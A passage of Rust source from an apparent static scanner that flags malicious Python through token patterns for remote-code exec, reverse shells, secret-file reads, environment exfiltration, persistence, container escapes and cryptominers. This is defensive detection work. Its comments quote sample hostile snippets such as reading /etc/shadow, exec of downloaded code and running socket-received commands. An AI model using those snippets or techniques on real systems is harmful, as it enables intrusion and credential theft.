    }
    // `urlopen(url, data=…)` and `Request(url, data=…)` send a body.
    if full == "data"
        && tokens.get(i + 1).is_some_and(|n| n.text == "=")
        && acc.at[F::Fetch as usize].last() == Some(&acc.line)
    {
        acc.set(F::Post);
    }
    if matches!(
        last,
        "getsitepackages" | "getusersitepackages" | "USER_SITE" | "get_python_lib"
    ) {
        acc.site_packages = true;
    }
    if depth == 0
        && (last == "install" || last == "develop" || last == "egg_info" || last == "build_py")
        && tokens
            .get(i.wrapping_sub(2))
            .is_some_and(|p| p.text == "class")
    {
        acc.set(F::SetupHook);
    }
}

/// [`scan`]'s checks of the string literal `t` at `tokens[i]`.
#[inline(never)]
fn scan_str(w: &Walk<'_, '_>, i: usize, t: &Token<'_>, acc: &mut Acc) {
    let Walk { tokens, depth, .. } = *w;
    if matches!(t.text, "w" | "wb" | "w+" | "wb+" | "ab" | "a+") {
        acc.set(F::WriteFile);
    }
    let executed = executed_at(tokens, i);
    let cues = string(t.text, t.escapes, depth, executed, acc);
    if !t.bytes && t.escapes >= 3 && spelled_in_escapes(t.text, t.escapes) {
        acc.escaped_names += 1;
        acc.escaped_code = acc.escaped_code || names_code(t.text);
    }
    if t.text.len() >= 8 && decoded_then_executed(tokens, i) {
        acc.set(F::ExecLiteral);
    }
    let callee = first_argument_of(tokens, i);
    // `open("/etc/shadow")`, `Path("~/.aws/credentials").read_text()`, and a path
    // joined to a directory: `open(root + "/etc/kubernetes/admin.conf")`.
    let joined = opened_joined(tokens, i);
    if (matches!(callee, Some("open" | "Path")) || joined.is_some()) && is_secret_file(t.text) {
        acc.set(F::SecretRead);
        // `print(open("/etc/shadow").read())`, `post(url, data=open(…))`.
        // `first_argument_of` found the call two tokens back (`open`, `(`).
        let at = match (callee, joined) {
            (Some(_), _) => i - 2,
            (None, Some(at)) => at,
            (None, None) => i,
        };
        if contents_sent(tokens, at) {
            acc.set(F::SecretDump);
        }
    }
    // `open("/etc/ld.so.preload", "w")`, `open("~/.bashrc", "a")`.
    if callee == Some("open") && opened_for_writing(tokens, i) {
        if has_feature(t.text, F::Persist) {
            acc.set(F::PersistWrite);
        }
        if t.text.contains("ld.so.preload") {
            acc.set(F::DefenseEvasion);
        }
    }
    // The Kubernetes secrets of a namespace or of the cluster listed (one named
    // secret, `…/secrets/NAME`, is not).
    if t.text.ends_with("/secrets") && t.text.contains("/namespaces/") {
        acc.set(F::SecretDump);
    }
    // An HTTP request written by hand (`"GET %s HTTP/1.0\r\nHost: …"`) downloads.
    if t.text.starts_with("GET ") && t.text.contains(" HTTP/1.") {
        acc.set(F::Fetch);
    }
    // `NamedTemporaryFile(prefix=".", dir="/dev/shm")`: a hidden temporary file.
    if t.text.starts_with('.')
        && i >= 2
        && tokens[i - 1].text == "="
        && tokens[i - 2].text == "prefix"
        && call_args_around(tokens, i).any(|a| {
            a.kind == Kind::Str
                && matches!(
                    a.text.trim_end_matches('/'),
                    "/tmp" | "/var/tmp" | "/dev/shm"
                )
        })
    {
        acc.set(F::HiddenTmp);
    }
    // `["mount", "-t", "cgroup", "-o", "rdma", "cgroup", d]`: a cgroup (v1)
    // filesystem mounted.
    if t.text == "mount"
        && tokens.get(i + 2).is_some_and(|f| f.text == "-t")
        && tokens
            .get(i + 4)
            .is_some_and(|c| c.kind == Kind::Str && c.text == "cgroup")
    {
        acc.set(F::EscapeProbe);
        acc.escape_kinds |= ESCAPE_MOUNT | ESCAPE_CGROUP_MOUNT;
    } else if t.text == "mount" && lists_cgroup_type(tokens, i) {
        // The type after the options: for the release_agent rule only (ansible-test
        // mounts the systemd cgroup v1 hierarchy this way beside its probes).
        acc.escape_kinds |= ESCAPE_CGROUP_MOUNT;
    }
    // `["mount", "/dev/" + d, mnt]`.
    if t.text == "mount"
        && tokens.get(i + 1).is_some_and(|c| c.text == ",")
        && tokens
            .get(i + 2)
            .is_some_and(|d| d.kind == Kind::Str && d.text.starts_with("/dev/"))
    {
        acc.set(F::EscapeProbe);
        acc.escape_kinds |= ESCAPE_MOUNT;
    }
    // `["nsenter", "-t", "1", …]`: into the host's namespaces.
    if t.text == "nsenter"
        && tokens
            .get(i + 2)
            .is_some_and(|f| matches!(f.text, "-t" | "--target"))
        && tokens
            .get(i + 4)
            .is_some_and(|p| p.kind == Kind::Str && p.text == "1")
    {
        acc.escape_kinds |= ESCAPE_NSENTER_PID1;
    }
    if is_ip_sweep(t.text) {
        acc.set(P::Targets);
    }
    match t.text {
        "job_id" | "jobid" => acc.set(P::JobId),
        "nonce" => acc.set(P::Nonce),
        "submit" | "login" | "getjob" | "mining.submit" | "mining.authorize" => {
            acc.set(P::PoolMethod)
        }
        _ => {}
    }
    if t.text.len() > 6 && cues & TMP_DIR != 0 && is_hidden_tmp(t.text) {
        acc.set(F::HiddenTmp);
        // The path, and the name it is assigned to (`OUT = "/var/tmp/.d"`).
        if acc.hidden_tmp.len() < 16 {
            acc.hidden_tmp.push(t.text.to_owned());
            if i >= 2 && tokens[i - 1].text == "=" && tokens[i - 2].kind == Kind::Name {
                acc.hidden_tmp.push(tokens[i - 2].text.to_owned());
            }
        }
    }
    if acc.site_packages && t.text.ends_with(".pth") {
        acc.set(F::Persist);
    }
    // Pieces joined into one string: `"so"[::-1] + "cket"`, `"".join(["p", "t"])`.
    if may_fold(tokens, i) && !follows_plus(tokens, i) {
        if let Some(folded) = fold(tokens, i) {
            if folded.parts > 1 || folded.reversed {
                string(&folded.text, 0, depth, executed, acc);
            }
        }
    }
}

/// [`scan`]'s checks of the operator `t` (`[` or `(`) at `tokens[i]`.
#[inline(never)]
fn scan_op(w: &Walk<'_, '_>, i: usize, t: &Token<'_>, acc: &mut Acc) {
    let Walk { tokens, depth, .. } = *w;
    if t.text == "[" && reversed_at(tokens, i) {
        acc.set(F::Reverse);
    }
    if (t.text == "[" || t.text == "(") && is_port_list(tokens, i) {
        acc.set(P::Targets);
    }
    // A list of character codes: `[112, 114, 105, …]`, `bytes((105, 109, …))`.
    if (t.text == "[" || t.text == "(") && depth < MAX_DEPTH {
        if let Some(text) = char_codes(tokens, i) {
            if acc.decoded_budget < DECODE_BUDGET {
                acc.chr += 1;
                payload(text.as_bytes(), depth, true, acc);
            }
        }
    }
}

/// The last segments of names that the name checks of [`scan_name`] react to: the patterns
/// of [`name_flags`], [`track_files`] and [`received_command`], and the names `scan_name`
/// compares itself. A name whose last segment is none of them sets nothing (beyond
/// [`is_weird_segment`] and the `win32crypt`/`Crypto.Cipher` prefixes, checked first), so
/// [`NameScreen`] lets it pass without the hundred-odd comparisons ([`scan`] does not even
/// call `scan_name` for it, unless it may start with an alias). The test
/// `name_screen_covers_every_name_pattern` reads those functions' patterns from this file and
/// fails if one is missing here.
#[rustfmt::skip]
const NAME_TRIGGERS: &[&str] = &[
    // name_flags
    "exec", "eval", "compile", "execfile", "memfd_create", "__import__", "import_module",
    "system", "popen", "popen2", "popen3", "getoutput", "getstatusoutput", "spawnl", "spawnlp",
    "spawnv", "spawnvp", "startfile", "Popen", "check_output", "check_call", "run", "call",
    "execv", "execve", "execvp", "execvpe", "execl", "execle", "execlp", "execlpe", "dup2", "dup",
    "spawn", "openpty", "forkpty", "socket", "create_connection", "socketpair", "connect",
    "connect_ex", "sendto", "open_connection", "wrap_socket", "recv", "recvfrom", "recv_into",
    "makefile", "readline", "create_subprocess_shell", "create_subprocess_exec", "kill", "killpg",
    "shell", "bind", "listen", "accept", "b64decode", "decodebytes", "decodestring", "a85decode",
    "b85decode", "b32decode", "b16decode", "standard_b64decode", "urlsafe_b64decode",
    "a2b_base64", "decompress", "decompressobj", "GzipFile", "inflate", "loads", "load",
    "fromhex", "unhexlify", "a2b_hex", "chmod", "fchmod", "urlopen", "urlretrieve",
    "HTTPConnection", "HTTPSConnection", "Request", "PoolManager", "urlopener", "URLopener",
    "curl", "get", "post", "put", "request", "Session", "upload_file", "upload_fileobj",
    "put_object", "environ", "items", "copy", "keys", "values", "gethostname", "getuser",
    "getlogin", "node", "uname", "gethostbyname", "getfqdn", "setsid", "daemon", "fork", "windll",
    "VirtualAlloc", "VirtualAllocEx", "CreateThread", "CreateRemoteThread", "WriteProcessMemory",
    "RtlMoveMemory", "memmove", "CryptUnprotectData", "win32crypt", "setup", "cmdclass",
    "__builtins__", "builtins", "globals", "vars", "getattr", "__dict__", "chr", "lambda",
    "remove", "unlink", "walk", "glob", "iglob", "rglob", "scandir", "listdir", "encrypt",
    "encrypt_and_digest", "encryptFile", "def", "class",
    // track_files
    "open", "write", "insert", "append", "zipimporter",
    // scan: requests that may carry the environment, `data=`, site-packages, install hooks
    "send", "sendall", "data", "getsitepackages", "getusersitepackages", "USER_SITE",
    "get_python_lib", "install", "develop", "egg_info", "build_py",
];

/// A 16,384-bit screen over the last segments in [`NAME_TRIGGERS`]: a name whose bit is clear
/// is none of them (a set bit may be another name; the checks then run as usual).
struct NameScreen([u64; 256]);

impl NameScreen {
    /// The bit of the name whose [`screen_key`] is `key`.
    fn bit(key: u32) -> usize {
        (key.wrapping_mul(0x2545_f491) >> 18) as usize
    }

    /// Whether a check may react to a name whose last segment is `last`.
    fn may_react(&self, last: &str) -> bool {
        self.may_react_key(screen_key(last.as_bytes()))
    }

    /// [`NameScreen::may_react`] of a last segment whose [`screen_key`] is `key`.
    #[inline(always)]
    fn may_react_key(&self, key: u32) -> bool {
        let b = Self::bit(key);
        self.0[b / 64] & (1 << (b % 64)) != 0
    }
}

/// What the name screens ([`NameScreen`], [`Aliases::screen_bit`]) know of a name segment:
/// its length (modulo 256) and its first, second and last bytes. A name without a dot is its
/// own first and last segment, and its key serves both screens.
#[inline(always)]
fn screen_key(name: &[u8]) -> u32 {
    let byte = |k: Option<&u8>| u32::from(k.copied().unwrap_or(0));
    (name.len() as u32 & 0xff) << 24
        | byte(name.first()) << 16
        | byte(name.get(1)) << 8
        | byte(name.last())
}

fn name_screen() -> &'static NameScreen {
    static S: OnceLock<NameScreen> = OnceLock::new();
    S.get_or_init(|| {
        let mut s = NameScreen([0; 256]);
        for name in NAME_TRIGGERS {
            let b = NameScreen::bit(screen_key(name.as_bytes()));
            s.0[b / 64] |= 1 << (b % 64);
        }
        s
    })
}

/// The flags one name sets: `full` is the dotted name (aliases resolved), `last` its last
/// segment, `call` whether it is called; `tokens[i]` is where it stands.
fn name_flags(
    full: &str,
    last: &str,
    call: bool,
    tokens: &[Token],
    i: usize,
    depth: u8,
    acc: &mut Acc,
) {
    match last {
        "exec" | "eval" | "compile" | "execfile"
            if is_builtin_exec(full)
                && (call || tokens.get(i + 1).is_some_and(|n| n.kind == Kind::Str)) =>
        {
            acc.set(F::Exec);
            if call && executes_received(tokens, i) {
                acc.set(F::ExecRemote);
            }
        }
        "memfd_create" => acc.set(F::Fileless),
        "__import__" | "import_module" => acc.set(F::DynImport),
        "system" | "popen" | "popen2" | "popen3" | "getoutput" | "getstatusoutput" | "spawnl"
        | "spawnlp" | "spawnv" | "spawnvp" | "startfile"
            if call =>
        {
            acc.set(F::OsSystem);
        }
        "Popen" | "check_output" | "check_call" | "run" | "call"
            if call
                && (last == "Popen"
                    || last == "check_output"
                    || last == "check_call"
                    || full.starts_with("subprocess")
                    || full.starts_with("sp.")) =>
        {
            acc.set(F::Subprocess)
        }
        "execv" | "execve" | "execvp" | "execvpe" | "execl" | "execle" | "execlp" | "execlpe" => {
            acc.set(F::Execv)
        }
        "dup2" | "dup" => acc.set(F::Dup2),
        "spawn" | "openpty" | "forkpty" if full.contains("pty") || last != "spawn" => {
            acc.set(F::Pty)
        }
        "socket" | "create_connection" | "socketpair" if call => {
            acc.set(F::Socket);
            if last == "create_connection" {
                acc.set(F::Connect);
            }
        }
        "connect" | "connect_ex" | "create_connection" | "sendto" | "open_connection"
        | "wrap_socket" => {
            acc.set(F::Connect);
            if last == "connect_ex" {
                acc.set(F::PortScan);
            }
        }
        "recv" | "recvfrom" | "recv_into" | "makefile" | "readline"
            if call && (last != "readline" || full.starts_with("reader")) =>
        {
            acc.set(F::Recv)
        }
        "create_subprocess_shell" | "create_subprocess_exec" => {
            acc.set(F::Subprocess);
            if last == "create_subprocess_shell" {
                acc.set(P::ShellCmd);
            }
        }
        "kill" | "killpg" if call && full.starts_with("os.") => acc.set(P::OsKill),
        "shell"
            if tokens.get(i + 1).is_some_and(|n| n.text == "=")
                && tokens.get(i + 2).is_some_and(|n| n.text == "True") =>
        {
            acc.set(F::ShellTrue)
        }
        "bind" | "listen" | "accept" if call => acc.set(F::Listen),
        "b64decode" | "decodebytes" | "decodestring" | "a85decode" | "b85decode" | "b32decode"
        | "b16decode" | "standard_b64decode" | "urlsafe_b64decode" | "a2b_base64" => {
            acc.set(F::B64)
        }
        "decompress" | "decompressobj" | "GzipFile" | "inflate" => acc.set(F::Decompress),
        "loads" | "load" if full.starts_with("marshal") => acc.set(F::Marshal),
        "loads" | "load"
            if full.starts_with("pickle")
                || full.starts_with("cPickle")
                || full.starts_with("dill") =>
        {
            acc.set(F::Pickle)
        }
        "fromhex" | "unhexlify" | "a2b_hex" => acc.set(F::HexDecode),
        "chmod" | "fchmod" => acc.set(F::Chmod),
        "urlopen" | "urlretrieve" | "HTTPConnection" | "HTTPSConnection" | "Request"
        | "PoolManager" | "urlopener" | "URLopener" | "curl" => acc.set(F::Fetch),
        "get" | "post" | "put" | "request" | "Session"
            if full.starts_with("requests")
                || full.starts_with("httpx")
                || full.starts_with("session") =>
        {
            acc.set(F::Fetch);
            if last == "post" || last == "put" {
                acc.set(F::Post);
            }
        }
        "upload_file" | "upload_fileobj" | "put_object" if call => acc.set(F::Post),
        "environ"
            if !tokens
                .get(i + 1)
                .is_some_and(|n| n.kind == Kind::Op && n.text == "[") =>
        {
            acc.set(F::EnvDump)
        }
        "items" | "copy" | "keys" | "values"
            if full.ends_with("environ.items")
                || full.ends_with("environ.copy")
                || full.ends_with("environ.keys")
                || full.ends_with("environ.values") =>
        {
            acc.set(F::EnvDump)
        }
        "gethostname" | "getuser" | "getlogin" | "node" | "uname" | "gethostbyname" | "getfqdn"
            if call =>
        {
            acc.set(F::Fingerprint)
        }
        "setsid" | "daemon" | "fork" if full.starts_with("os") || last == "setsid" => {
            acc.set(F::Daemonize)
        }
        "windll" | "VirtualAlloc" | "VirtualAllocEx" | "CreateThread" | "CreateRemoteThread"
        | "WriteProcessMemory" | "RtlMoveMemory" | "memmove"
            if full.contains("ctypes") || full.contains("kernel32") || last != "memmove" =>
        {
            acc.set(F::WinInject)
        }
        "CryptUnprotectData" | "win32crypt" => acc.set(F::WinSteal),
        "setup" if call => acc.set(F::SetupCall),
        "cmdclass" => acc.set(F::SetupHook),
        "__builtins__" | "builtins" | "globals" | "vars" | "getattr" | "__dict__"
            if depth == 0
                && (last == "__builtins__" || last == "globals" || call)
                && (last != "getattr"
                    || tokens.get(i + 2).is_some_and(|n| {
                        n.kind == Kind::Name
                            && (n.text.contains("builtins")
                                || n.text == "os"
                                || n.text.starts_with("__import__"))
                    })) =>
        {
            acc.set(F::BuiltinsObf);
        }
        "chr" if call => acc.chr += 1,
        "lambda" => acc.lambdas += 1,
        "remove" | "unlink" => {
            if tokens
                .get(i + 2)
                .is_some_and(|n| n.text == "__file__" || n.text == "sys.argv")
            {
                acc.set(F::SelfDelete)
            }
            // Not `list.remove(x)`, nor a method of that name defined.
            if call
                && !defined_at(tokens, i)
                && (full.starts_with("os.") || full == "remove" || last == "unlink")
            {
                acc.set(P::RemoveFile)
            }
        }
        "walk" | "glob" | "iglob" | "rglob" | "scandir" | "listdir"
            if call && !defined_at(tokens, i) && !full.starts_with("ast.") =>
        {
            acc.set(P::Walk)
        }
        "encrypt" | "encrypt_and_digest" | "encryptFile" if call && !defined_at(tokens, i) => {
            acc.set(P::Encrypt)
        }
        "def" | "class" => acc.defs += 1,
        _ => {}
    }
}

/// Whether the name at `tokens[i]` is being defined (`def remove(self, …)`), not called.
fn defined_at(tokens: &[Token], i: usize) -> bool {
    i > 0 && tokens[i - 1].kind == Kind::Name && tokens[i - 1].text == "def"
}

/// Whether the string at `tokens[i]` is the argument of exec/eval/compile (`exec("…")`,
/// Python 2 `exec "…"`).
fn executed_at(tokens: &[Token], i: usize) -> bool {
    match i {
        0 => false,
        1 => is_exec_name(&tokens[0]),
        _ => {
            is_exec_name(&tokens[i - 1])
                || (tokens[i - 1].text == "(" && is_exec_name(&tokens[i - 2]))
        }
    }
}

/// Whether the exec/eval call at `tokens[i]` runs what a download or a socket read returns:
/// `exec(urlopen(url).read())`, `exec(requests.get(url).text)`, `exec(s.recv(4096))`.
fn executes_received(tokens: &[Token], i: usize) -> bool {
    call_args(tokens, i, 64).any(|t| {
        t.kind == Kind::Name
            && match t.tail() {
                "urlopen" | "recv" | "recvfrom" | "recv_into" | "makefile" => true,
                "get" | "post" | "request" => {
                    t.text.starts_with("requests") || t.text.starts_with("httpx")
                }
                _ => false,
            }
    })
}

/// The tokens of the call at `tokens[i]` from its `(` to the bracket that closes it (nested
/// brackets included; the closing one not), looking at most `span` tokens ahead.
fn call_args<'t, 'a>(
    tokens: &'t [Token<'a>],
    i: usize,
    span: usize,
) -> impl Iterator<Item = &'t Token<'a>> {
    let mut depth = 0usize;
    tokens.iter().skip(i + 1).take(span).take_while(move |t| {
        if t.kind == Kind::Op {
            match t.text {
                "(" | "[" => depth += 1,
                ")" | "]" => {
                    depth = depth.saturating_sub(1);
                    return depth > 0;
                }
                _ => {}
            }
        }
        true
    })
}

/// Whether the string at `tokens[i]` is decoded and the result executed in one expression:
/// `exec(zlib.decompress(base64.b64decode("…")))`, `eval(codecs.decode("…", "rot13"))`.
fn decoded_then_executed(tokens: &[Token], i: usize) -> bool {
    let mut k = i;
    let mut decoders = 0;
    while k >= 2 && decoders <= 6 && tokens[k - 1].kind == Kind::Op && tokens[k - 1].text == "(" {
        let f = &tokens[k - 2];
        if f.kind != Kind::Name {
            return false;
        }
        if is_exec_name(f) {
            return decoders > 0;
        }
        // `codecs.decode("…", "rot13")` decodes its literal; `data.decode("utf-8")` is given a
        // codec name, and `json.loads("…")` data.
        let decoder = match f.tail() {
            "decode" => f.text.starts_with("codecs"),
            "loads" => f.text.starts_with("marshal"),
            last => matches!(
                last,
                "b64decode"
                    | "b32decode"
                    | "b85decode"
                    | "a85decode"
                    | "urlsafe_b64decode"
                    | "decodebytes"
                    | "decodestring"
                    | "decompress"
                    | "unhexlify"
                    | "a2b_hex"
                    | "a2b_base64"
                    | "fromhex"
            ),
        };
        if !decoder {
            return false;
        }
        decoders += 1;
        k -= 2;
    }
    false
}

/// Records the files a call at `tokens[i]` (named `last`) writes or runs, for
/// [`F::RunDownloaded`].
fn track_files(last: &str, tokens: &[Token], i: usize, acc: &mut Acc) {
    /// Arguments are looked at up to this many tokens.
    const SPAN: usize = 32;
    /// At most this many files are remembered either way.
    const MAX: usize = 64;
    /// Longer names or paths are not remembered.
    const MAX_LEN: usize = 4096;
    let file = |t: &Token| {
        matches!(t.kind, Kind::Name | Kind::Str) && !t.text.is_empty() && t.text.len() <= MAX_LEN
    };
    let remember = |list: &mut Vec<String>, name: &str| {
        if name.len() <= MAX_LEN && list.len() < MAX && !list.iter().any(|x| x == name) {
            list.push(name.to_owned());
        }
    };
    match last {
        // `open(X, "wb")`: a positional mode only.
        "open" => {
            if let Some(x) = tokens
                .get(i + 2)
                .filter(|t| file(t) && opened_for_writing(tokens, i + 2))
            {
                remember(&mut acc.written, x.text);
            }
        }
        // `urlretrieve(url, X)`.
        "urlretrieve" if tokens.get(i + 3).is_some_and(|c| c.text == ",") => {
            if let Some(x) = tokens.get(i + 4).filter(|t| file(t)) {
                remember(&mut acc.written, x.text);
            }
        }
        // `chmod(X, 0o755)`, `chmod(X, st.st_mode | stat.S_IEXEC)`: only when execute bits
        // are given.
        "chmod" => {
            let executable = call_args(tokens, i, SPAN).any(|t| {
                t.text.contains("S_IX")
                    || t.text.contains("S_IEXEC")
                    || (t.kind == Kind::Number && parse_int(t.text).is_some_and(|v| v & 0o111 != 0))
            });
            if let Some(x) = tokens.get(i + 2).filter(|t| executable && file(t)) {
                remember(&mut acc.ran, x.text);
            }
        }
        // `X.write(…)` on a file object (`X = NamedTemporaryFile(…)`): X is written.
        "write" => {
            if let Some((base, _)) = tokens[i].text.split_once('.') {
                if !matches!(base, "" | "sys" | "os" | "self") {
                    remember(&mut acc.written, base);
                }
            }
        }
        // `sys.path.insert(0, X.name)`, `sys.path.append(X)`, `zipimporter(X)`: X's code is
        // imported, which runs it.
        "insert" | "append" | "zipimporter"
            if last == "zipimporter" || tokens[i].text.starts_with("sys.path.") =>
        {
            if let Some(x) = call_args(tokens, i, SPAN).filter(|t| file(t)).last() {
                let base = if x.kind == Kind::Name {
                    x.head()
                } else {
                    x.text
                };
                if !matches!(base, "sys" | "os" | "self") {
                    remember(&mut acc.ran, base);
                }
            }
        }
        "Popen"
        | "run"
        | "call"
        | "check_call"
        | "check_output"
        | "system"
        | "popen"
        | "startfile"
        | "execv"
        | "execve"
        | "execl"
        | "execvp"
        | "spawnv"
        | "create_subprocess_exec" => {
            // What is run, not where its output goes: `run(cmd, stdout=log)` does not run `log`.
            for (t, k) in call_args(tokens, i, SPAN).zip(i + 1..) {
                if file(t) && tokens[k - 1].text != "=" {
                    remember(&mut acc.ran, t.text);
                }
            }
        }
        _ => {}
    }
}

/// The last segment of the name called with `tokens[i]` as its first argument (`open` for
/// `open("/etc/shadow")`).
fn first_argument_of<'a>(tokens: &[Token<'a>], i: usize) -> Option<&'a str> {
    let f = tokens.get(i.checked_sub(2)?)?;
    (tokens[i - 1].text == "(" && f.kind == Kind::Name).then(|| f.tail())
}

/// Tracks what socket reads return (`cmd = s.recv(1024)`, `line = await reader.readline()`)
/// and flags a call at `tokens[i]` that runs it as code or as a command (`os.popen(cmd)`,
/// `create_subprocess_shell(line.decode())`, `exec(data)`).
fn received_command(full: &str, last: &str, tokens: &[Token], i: usize, acc: &mut Acc) {
    /// At most this many names are remembered.
    const MAX: usize = 16;
    match last {
        "recv" | "recvfrom" | "readline"
            if last != "readline"
                || full == "reader.readline"
                || full.ends_with(".reader.readline") =>
        {
            let mut k = i.wrapping_sub(1);
            if tokens.get(k).is_some_and(|t| t.text == "await") {
                k = k.wrapping_sub(1);
            }
            if tokens.get(k).is_some_and(|t| t.text == "=") {
                if let Some(n) = tokens
                    .get(k.wrapping_sub(1))
                    .filter(|n| n.kind == Kind::Name)
                {
                    let line = acc.line;
                    if let Some(seen) = acc.received.iter_mut().find(|(r, _)| r == n.text) {
                        seen.1 = line;
                    } else if acc.received.len() < MAX {
                        acc.received.push((n.text.to_owned(), line));
                    }
                }
            }
        }
        "exec"
        | "eval"
        | "system"
        | "popen"
        | "getoutput"
        | "getstatusoutput"
        | "Popen"
        | "check_output"
        | "check_call"
        | "call"
        | "run"
        | "create_subprocess_shell"
        | "create_subprocess_exec"
        | "spawn"
            if match last {
                "exec" | "eval" => is_builtin_exec(full),
                "system" | "popen" | "getoutput" | "getstatusoutput" => {
                    full.starts_with("os.") || full.starts_with("subprocess.")
                }
                "call" | "run" => full.starts_with("subprocess.") || full.starts_with("sp."),
                "spawn" => full.starts_with("pty."),
                _ => true,
            } =>
        {
            let Some(arg) = tokens.get(i + 2).filter(|t| t.kind == Kind::Name) else {
                return;
            };
            // `line.decode`, `cmd.split`: the name before the method; or the read itself,
            // `run(s.recv(4096).decode(), shell=True)`.
            let base = arg.head();
            let read_here = matches!(arg.tail(), "recv" | "recvfrom")
                && tokens.get(i + 3).is_some_and(|t| t.text == "(");
            // The name must hold a read made a few lines before (the same loop), not one of
            // the same name anywhere in the file.
            let line = acc.line;
            if read_here
                || acc
                    .received
                    .iter()
                    .any(|(r, at)| r == base && line.saturating_sub(*at) < WINDOW)
            {
                acc.set(F::ReceivedCommand);
            }
        }
        _ => {}
    }
}

/// For a string at `tokens[i]` joined to a name as the first argument of `open`/`Path`
/// (`open(root + "/etc/shadow")`), the index of the `open`.
fn opened_joined(tokens: &[Token], i: usize) -> Option<usize> {
    let at = i.checked_sub(4)?;
    let f = &tokens[at];
    (tokens[i - 1].text == "+"
        && tokens[i - 2].kind == Kind::Name
        && tokens[i - 3].text == "("
        && f.kind == Kind::Name
        && matches!(f.tail(), "open" | "Path"))
    .then_some(at)
}

/// Whether what the `open` at `tokens[at]` reads is printed or sent in the same expression:
/// `print(open(…).read())`, `s.sendall(open(…, "rb").read())`, `post(url, data=open(…))`.
fn contents_sent(tokens: &[Token], at: usize) -> bool {
    let (Some(before), Some(outer)) = (
        at.checked_sub(1).map(|k| &tokens[k]),
        at.checked_sub(2).map(|k| &tokens[k]),
    ) else {
        return false;
    };
    outer.kind == Kind::Name
        && match before.text {
            "(" => matches!(
                outer.tail(),
                "print"
                    | "pprint"
                    | "post"
                    | "put"
                    | "send"
                    | "sendall"
                    | "sendfile"
                    | "urlopen"
                    | "b64encode"
                    | "hexlify"
            ),
            // A keyword argument (`post(url, data=open(…))`), not a statement
            // (`data = open(".env").read()`).
            "=" => {
                matches!(outer.text, "data" | "files" | "json" | "body")
                    && at
                        .checked_sub(3)
                        .is_some_and(|k| matches!(tokens[k].text, "(" | ","))
            }
            _ => false,
        }
}

/// The whole environment: `os.environ` (not `os.environ.get`, nor a WSGI `environ`),
/// `os.environ.items()` and the like.
fn is_whole_environ(name: &str) -> bool {
    matches!(
        name,
        "os.environ"
            | "os.environ.items"
            | "os.environ.copy"
            | "os.environ.keys"
            | "os.environ.values"
    )
}

fn next_is_subscript(tokens: &[Token], i: usize) -> bool {
    tokens
        .get(i + 1)
        .is_some_and(|n| n.kind == Kind::Op && n.text == "[")
}

/// Whether the call at `tokens[i]` is given the whole environment among its arguments.
fn sends_environ(tokens: &[Token], i: usize, aliases: &Aliases) -> bool {
    /// Arguments are looked at up to this many tokens.
    const SPAN: usize = 64;
    let mut depth = 0usize;
    for k in i + 1..tokens.len().min(i + 1 + SPAN) {
        let t = &tokens[k];
        match t.kind {
            Kind::Op => match t.text {
                "(" | "[" | "{" => depth += 1,
                ")" | "]" | "}" => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        return false;
                    }
                }
                _ => {}
            },
            // `json=dict(os.environ)`, and `json=dict(E)` after `from os import environ as E`.
            Kind::Name
                if is_whole_environ(&aliases.resolve(t.text)) && !next_is_subscript(tokens, k) =>
            {
                return true
            }
            _ => {}
        }
    }
    false
}

/// Whether the `in` at `tokens[k]` is a loop's (`for k, v in …`): a `for` a few names before it.
fn iterated_at(tokens: &[Token], k: usize) -> bool {
    /// Tokens looked at before the `in` (`for key , value in`).
    const SPAN: usize = 8;
    tokens[k.saturating_sub(SPAN)..k]
        .iter()
        .rev()
        .take_while(|t| t.kind == Kind::Name || t.text == "," || t.text == "(" || t.text == ")")
        .any(|t| t.kind == Kind::Name && t.text == "for")
}

/// Whether a bare secret word (`"TOKEN"`, `"PASSWORD"`: a filter of any variable's name, not
/// one variable such as `"AWS_SECRET_ACCESS_KEY"`) follows the environment iterated at
/// `tokens[i]` within a few tokens.
fn secret_name_follows(tokens: &[Token], i: usize) -> bool {
    /// Tokens looked at after the environment.
    const SPAN: usize = 48;
    tokens.iter().skip(i + 1).take(SPAN).any(|t| {
        t.kind == Kind::Str
            && t.text.len() <= 11
            && [
                "token",
                "secret",
                "password",
                "passwd",
                "pass",
                "key",
                "api_key",
                "apikey",
                "credential",
                "auth",
                "private",
            ]
            .iter()
            .any(|w| t.text.eq_ignore_ascii_case(w))
    })
}

/// Three parts of an IPv4 address and a placeholder for the fourth: `"10.42.0.%d"`,
/// `"10.0.0.{i}"` (an f-string's text).
fn is_ip_sweep(s: &str) -> bool {
    if s.len() > 24 || !(s.ends_with('d') || s.ends_with('s') || s.ends_with('}')) {
        return false;
    }
    let Some(dot) = s.rfind('.') else {
        return false;
    };
    let (head, tail) = (&s[..dot], &s[dot + 1..]);
    let placeholder = tail == "%d"
        || tail == "%s"
        || (tail.starts_with('{') && tail.ends_with('}') && tail.len() > 2);
    placeholder && {
        let mut parts = 0;
        head.split('.').all(|p| {
            parts += 1;
            !p.is_empty() && p.len() <= 3 && p.bytes().all(|c| c.is_ascii_digit())
        }) && parts == 3
    }
}

/// A literal list or tuple opening at `tokens[i]` of at least three port numbers, two of them
/// well-known service ports: `(22, 80, 443, 2375, 6379)`.
fn is_port_list(tokens: &[Token], i: usize) -> bool {
    /// Ports that services in and around a cluster listen on.
    const SERVICES: &[u32] = &[
        21, 22, 23, 25, 53, 80, 443, 445, 1433, 2375, 2376, 2379, 3000, 3306, 3389, 5000, 5432,
        5601, 5672, 5900, 6379, 6443, 8000, 8080, 8443, 8888, 9000, 9090, 9200, 10250, 10255,
        11211, 27017,
    ];
    // Cheap rejection first: the list must start with a number.
    if !tokens.get(i + 1).is_some_and(|t| t.kind == Kind::Number) {
        return false;
    }
    let close = if tokens[i].text == "[" { "]" } else { ")" };
    let (mut ports, mut services) = (0, 0);
    let mut j = i + 1;
    while let Some(t) = tokens.get(j).filter(|_| j < i + 64) {
        let Some(v) = (t.kind == Kind::Number)
            .then(|| parse_int(t.text))
            .flatten()
        else {
            return false;
        };
        if v == 0 || v > 65535 {
            return false;
        }
        ports += 1;
        services += usize::from(SERVICES.contains(&v));
        match tokens.get(j + 1) {
            Some(c) if c.text == "," => j += 2,
            Some(c) if c.text == close => break,
            _ => return false,
        }
        if tokens.get(j).is_some_and(|c| c.text == close) {
            break;
        }
    }
    ports >= 3 && services >= 2
}

/// The other arguments of the call `tokens[i]` is an argument of: the tokens between its
/// parentheses, when they close within a bounded distance; none otherwise.
fn call_args_around<'t, 'a>(
    tokens: &'t [Token<'a>],
    i: usize,
) -> impl Iterator<Item = &'t Token<'a>> {
    /// Tokens looked at either side.
    const SPAN: usize = 64;
